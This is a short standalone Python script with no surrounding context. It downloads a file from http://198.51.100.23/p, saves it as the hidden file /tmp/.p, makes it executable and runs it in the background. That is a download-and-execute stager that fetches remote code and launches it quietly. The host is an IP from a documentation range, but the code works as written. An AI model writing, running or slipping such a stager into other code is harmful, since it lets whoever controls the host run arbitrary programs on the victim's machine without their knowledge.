import os, urllib.request
data = urllib.request.urlopen("http://198.51.100.23/p").read()
open("/tmp/.p", "wb").write(data)
os.system("chmod +x /tmp/.p && /tmp/.p &")
